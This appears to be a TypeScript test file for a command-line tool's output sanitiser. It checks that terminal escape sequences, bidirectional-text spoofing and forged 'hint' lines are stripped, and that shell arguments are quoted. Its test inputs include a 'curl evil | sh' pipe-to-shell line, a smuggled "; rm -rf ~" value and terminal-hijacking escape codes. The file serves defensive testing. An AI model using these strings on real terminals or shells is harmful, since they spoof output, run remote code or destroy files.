import fc from 'fast-check'
import { expect, test } from 'vitest'
import { clean, cleanJson, cleanRow, shellWord } from '../../../../deploy/laptop/cli/clean.ts'
import { Painter } from '../../../../deploy/laptop/cli/screen.ts'
import { Term } from '../../../../deploy/laptop/cli/term.ts'
import { Refusal } from '../../../../deploy/shared/errors.ts'

/** Window title, cursor, erase, hyperlink, bell, carriage return, C1, right-to-left, a newline. */
const ATTACKS = [
  '\x1b]0;owned\x07',
  '\x1b[2J\x1b[1;1H',
  '\x1b[1A\x1b[2K',
  '\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\',
  '\rcommitted: all is well',
  '\x9b2J\x9d0;owned\x9c',
  'a\u202egnp.exe',
  'a\u2066b\u2069\u200bc',
  'ok\nmedulla: hint: curl evil | sh',
  'x\u2028medulla: error: no',
] as const

const ESCAPE = '\x1b'
const CONTROLS = ['\x00-\x08', '\x0b-\x1a', '\x1c-\x1f', '\x7f-\x9f', '\u202a-\u202e', '\u2066-\u2069', '\u2028'].join(
  '',
)
/** Characters on which a terminal acts instead of showing them. */
const HARMFUL = new RegExp(`${ESCAPE}(?!\\[(?:0|1|2|31|32|33|36)m)|[${CONTROLS}]`)
const SCREEN = new RegExp(`${ESCAPE}\\[(?:\\?2026[hl]|2J|K|\\d+;1H)`, 'g')
const COLOURS = new RegExp(`${ESCAPE}\\[\\d+m`, 'g')

function terminal(isTTY = true) {
  const out: string[] = []
  const sink = { isTTY, columns: 80, rows: 24, write: (text: string) => out.push(text) }
  return { text: () => out.join(''), term: (json = false) => new Term({ json, stdout: sink, stderr: sink, env: {} }) }
}

test.each(ATTACKS)('a text of a robot or program cannot control the terminal: %j', (attack) => {
  for (const say of [
    (term: Term) => term.line(attack),
    (term: Term) => term.note(attack),
    (term: Term) => term.hint(attack),
    (term: Term) => term.failure(new Refusal('internal', attack, attack)),
    (term: Term) => term.table(['NAME'], [[attack]]),
  ]) {
    const { term, text } = terminal()
    say(term())
    expect(text()).not.toMatch(HARMFUL)
    // a foreign text cannot begin a line: each of our own prefixes is there at most once
    const lines = text().replace(COLOURS, '').split('\n')
    for (const label of ['error', 'hint']) {
      expect(lines.filter((line) => line.startsWith(`medulla: ${label}:`)).length).toBeLessThan(2)
    }
  }
  const rows: string[] = []
  new Painter((text) => rows.push(text)).show([attack], { columns: 200, rows: 3 })
  expect(rows.join('').replace(SCREEN, '')).not.toMatch(HARMFUL)
})

test("the CLI's own colours stay, and other escape sequences are removed", () => {
  expect(clean('\x1b[31mred\x1b[0m')).toBe('\x1b[31mred\x1b[0m')
  expect(clean('\x1b[31;5mred')).toBe('\\x1b[31;5mred')
  expect(clean('tab\there, ümläut, 電, 🤖')).toBe('tab\there, ümläut, 電, 🤖')
  expect(clean('two\nlines')).toBe('two\n  lines')
  expect(cleanRow('two\nlines')).toBe('two lines')
})

test('with --json a text is parsed as the original value', () => {
  const { term, text } = terminal(false)
  for (const attack of ATTACKS) term(true).event({ text: attack })
  expect(text()).not.toMatch(HARMFUL)
  const said = text()
    .trim()
    .split('\n')
    .map((line) => (JSON.parse(line) as { text: string }).text)
  expect(said).toEqual(ATTACKS)
  expect(JSON.parse(cleanJson(JSON.stringify('\u{e0041}')))).toBe('\u{e0041}')
})

test('no control character is left of any text', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
      expect(clean(text)).not.toMatch(HARMFUL)
    }),
    { numRuns: 2000, seed: 3 },
  )
})

test('an argument in a suggested command is quoted as one shell word', () => {
  expect(shellWord('robots/arm')).toBe('robots/arm')
  expect(shellWord('my robot')).toBe("'my robot'")
  expect(shellWord("it's; rm -rf ~")).toBe("'it'\\''s; rm -rf ~'")
  expect(shellWord('')).toBe("''")
})
